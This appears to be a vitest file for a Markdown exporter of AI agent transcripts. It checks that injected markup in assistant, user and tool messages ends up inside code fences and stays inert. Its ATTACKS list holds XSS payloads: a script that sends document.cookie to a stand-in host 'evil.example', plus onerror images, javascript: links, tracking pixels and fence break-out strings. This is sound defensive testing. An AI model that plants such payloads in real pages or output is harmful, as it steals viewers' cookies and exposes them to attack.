import { describe, expect, it } from "vitest";
import type { ModelMessage } from "ai";
import { liveMarkdown } from "../../test/helpers/markdown.js";
import { mdFence, mdInlineCode, transcriptMarkdown } from "./commands.js";
import type { TranscriptEntry } from "./store.js";

const ATTACKS = [
  "<script>fetch('https://evil.example/x?c='+document.cookie)</script>",
  '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
  '<iframe src="https://evil.example/"></iframe>',
  "[click me](javascript:alert(1))",
  "![tracker](https://evil.example/t.png)",
  "<https://evil.example/autolink>",
  "[ref]: https://evil.example/ref",
  "<style>body{background:url(https://evil.example/bg)}</style>",
  // Break out of a naive ``` fence, then attack.
  "```\n<script>alert('escaped the fence')</script>\n```",
  "````\n<img src=https://evil.example/4.png>\n````",
  "~~~\n<img src=https://evil.example/tilde.png>\n~~~",
];

const entry = (role: string, message: ModelMessage, i: number): TranscriptEntry =>
  ({ role, message, createdAt: Date.UTC(2026, 0, 1, 0, 0, i), runId: null }) as unknown as TranscriptEntry;

function live(md: string): string {
  return liveMarkdown(md);
}

describe("Markdown export keeps model text inert", () => {
  it("every attack is exported verbatim, and none of it is outside a code block", () => {
    const entries = ATTACKS.flatMap((a, i) => [
      entry("assistant", { role: "assistant", content: [{ type: "text", text: `Here you go:\n${a}\nbye` }] } as ModelMessage, i),
      entry("user", { role: "user", content: a } as ModelMessage, i),
      entry(
        "tool",
        { role: "tool", content: [{ type: "tool-result", toolCallId: "c", toolName: `web_fetch${a}`, output: { type: "text", value: a } }] } as unknown as ModelMessage,
        i,
      ),
    ]);
    const md = transcriptMarkdown("agent:main:<img src=x>", entries, new Date(0));
    for (const a of ATTACKS) expect(md).toContain(a); // shown exactly as written …
    const outside = live(md);
    // … but nothing a viewer would render as HTML, a link or an image.
    expect(outside).not.toMatch(/[<>]/);
    expect(outside).not.toMatch(/\]\(|\]:|!\[/);
    expect(outside).not.toMatch(/evil\.example|javascript:/);
  });

  it("control: headings and labels stay live Markdown; plain text round-trips", () => {
    const md = transcriptMarkdown("agent:main:main", [entry("assistant", { role: "assistant", content: "hello **world**" } as ModelMessage, 0)], new Date(0));
    expect(live(md)).toMatch(/^# Session $/m);
    expect(live(md)).toMatch(/^## assistant · 2026-01-01T00:00:00\.000Z$/m);
    expect(md).toContain("```text\nhello **world**\n```");
  });

  it("a fence is longer than any backtick run inside; inline code pads leading backticks", () => {
    expect(mdFence("a ````` b")).toMatch(/^`{6}\n/);
    expect(mdInlineCode("x`y")).toBe("``x`y``");
    expect(mdInlineCode("`x")).toBe("`` `x ``");
    // The checker itself sees a naive fence break-out (so the tests above can fail).
    expect(live("```\n```\n<script>x</script>\n```")).toContain("<script>");
  });
});
